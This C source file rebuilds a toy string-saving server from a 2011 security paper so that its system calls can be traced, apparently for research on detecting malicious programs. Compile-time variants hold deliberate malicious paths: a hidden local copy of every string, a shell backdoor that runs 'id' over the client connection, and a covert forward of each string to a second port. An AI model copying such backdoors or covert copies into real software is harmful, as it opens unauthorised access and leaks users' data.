/*
 * toy-server: the "simple server which receives strings over the network and
 * saves them on a file" of Maiero & Miculan (SECRYPT 2011), section 4.2 /
 * Table 2, rebuilt so that it can be recorded with strace.
 *
 *   toy-server PORT OUTFILE
 *
 * Listens on 127.0.0.1:PORT. One process, one connection at a time: for each
 * connection it reads newline-terminated strings, appends each one to OUTFILE
 * (opened once, O_APPEND) and acknowledges it with "OK\n". SIGINT makes the
 * server close its sockets and the file and exit(0); SIGKILL just kills it.
 *
 * The malicious modifications of the paper are real code paths, selected at
 * compile time (the command line stays the same for every variant):
 *
 *   -DVARIANT_LOCAL_COPY    also appends every string to a second file
 *                           (LOCAL_COPY_PATH, default ".stash").
 *   -DVARIANT_SHELL         backdoor: on the first connection, fork a child
 *                           that puts the connection on stdin/stdout/stderr and
 *                           execs "/bin/sh -c id" (bounded: one command, the
 *                           server waits for it).
 *   -DVARIANT_REMOTE_COPY   connects once to 127.0.0.1:REMOTE_PORT (required
 *                           macro) and sends a copy of every string there.
 *
 * Build: cc -O2 -o toy-server server.c [-DVARIANT_...]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#if defined(VARIANT_REMOTE_COPY) && !defined(REMOTE_PORT)
#error "VARIANT_REMOTE_COPY needs -DREMOTE_PORT=<port>"
#endif
#ifndef LOCAL_COPY_PATH
#define LOCAL_COPY_PATH ".stash"
#endif

#define BUF_SIZE 4096

static volatile sig_atomic_t stop_requested = 0;

static void on_sigint(int sig) {
  (void)sig;
  stop_requested = 1;
}

/* write() the whole buffer, retrying short writes; -1 on error. */
static int write_all(int fd, const char *p, size_t n) {
  while (n > 0) {
    ssize_t w = write(fd, p, n);
    if (w < 0) {
      if (errno == EINTR && !stop_requested) continue;
      return -1;
    }
    p += w;
    n -= (size_t)w;
  }
  return 0;
}

static int send_all(int fd, const char *p, size_t n) {
  while (n > 0) {
    ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
    if (w < 0) {
      if (errno == EINTR && !stop_requested) continue;
      return -1;
    }
    p += w;
    n -= (size_t)w;
  }
  return 0;
}

#ifdef VARIANT_LOCAL_COPY
static int copy_fd = -1;
#endif
#ifdef VARIANT_REMOTE_COPY
static int remote_fd = -1;

static void remote_open(void) {
  struct sockaddr_in sa;
  remote_fd = socket(AF_INET, SOCK_STREAM, 0);
  if (remote_fd < 0) return;
  memset(&sa, 0, sizeof sa);
  sa.sin_family = AF_INET;
  sa.sin_port = htons(REMOTE_PORT);
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(remote_fd, (struct sockaddr *)&sa, sizeof sa) < 0) {
    close(remote_fd);
    remote_fd = -1;
  }
}
#endif

#ifdef VARIANT_SHELL
static int shell_opened = 0;

static void open_backdoor(int conn) {
  pid_t pid = fork();
  if (pid == 0) {
    dup2(conn, 0);
    dup2(conn, 1);
    dup2(conn, 2);
    execl("/bin/sh", "sh", "-c", "id", (char *)NULL);
    _exit(127);
  }
  if (pid > 0) {
    int status;
    while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {
    }
  }
}
#endif

/* Save one string (with its newline) and acknowledge it. */
static int handle_line(int conn, int out_fd, const char *line, size_t len) {
  if (write_all(out_fd, line, len) < 0) return -1;
#ifdef VARIANT_LOCAL_COPY
  if (copy_fd >= 0) write_all(copy_fd, line, len);
#endif
#ifdef VARIANT_REMOTE_COPY
  if (remote_fd >= 0) send_all(remote_fd, line, len);
#endif
  return send_all(conn, "OK\n", 3);
}

static void serve_connection(int conn, int out_fd) {
  char buf[BUF_SIZE];
  size_t have = 0;
#ifdef VARIANT_SHELL
  if (!shell_opened) {
    shell_opened = 1;
    open_backdoor(conn);
  }
#endif
  while (!stop_requested) {
    ssize_t r = read(conn, buf + have, sizeof buf - have);
    if (r < 0) {
      if (errno == EINTR) continue;
      break;
    }
    if (r == 0) break;
    have += (size_t)r;
    size_t start = 0;
    for (size_t i = 0; i < have; i++) {
      if (buf[i] == '\n') {
        if (handle_line(conn, out_fd, buf + start, i + 1 - start) < 0) return;
        start = i + 1;
      }
    }
    if (start > 0) {
      memmove(buf, buf + start, have - start);
      have -= start;
    } else if (have == sizeof buf) {
      /* over-long line: save what we have as one string */
      if (handle_line(conn, out_fd, buf, have) < 0) return;
      have = 0;
    }
  }
}

int main(int argc, char **argv) {
  if (argc != 3) {
    static const char usage[] = "usage: toy-server PORT OUTFILE\n";
    write_all(2, usage, sizeof usage - 1);
    return 2;
  }
  int port = atoi(argv[1]);
  if (port <= 0 || port > 65535) return 2;

  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = on_sigint;
  sigemptyset(&sa.sa_mask);
  sa.sa_flags = 0; /* no SA_RESTART: a blocked accept()/read() returns EINTR */
  sigaction(SIGINT, &sa, NULL);

  int out_fd = open(argv[2], O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (out_fd < 0) return 1;
#ifdef VARIANT_LOCAL_COPY
  copy_fd = open(LOCAL_COPY_PATH, O_WRONLY | O_CREAT | O_APPEND, 0600);
#endif
#ifdef VARIANT_REMOTE_COPY
  remote_open();
#endif

  int lfd = socket(AF_INET, SOCK_STREAM, 0);
  if (lfd < 0) return 1;
  int one = 1;
  setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  struct sockaddr_in addr;
  memset(&addr, 0, sizeof addr);
  addr.sin_family = AF_INET;
  addr.sin_port = htons((unsigned short)port);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (bind(lfd, (struct sockaddr *)&addr, sizeof addr) < 0) return 1;
  if (listen(lfd, 8) < 0) return 1;

  while (!stop_requested) {
    int conn = accept(lfd, NULL, NULL);
    if (conn < 0) {
      if (errno == EINTR) continue; /* loop condition sees stop_requested */
      break;
    }
    serve_connection(conn, out_fd);
    close(conn);
  }

  close(lfd);
#ifdef VARIANT_REMOTE_COPY
  if (remote_fd >= 0) close(remote_fd);
#endif
#ifdef VARIANT_LOCAL_COPY
  if (copy_fd >= 0) close(copy_fd);
#endif
  close(out_fd);
  return 0;
}
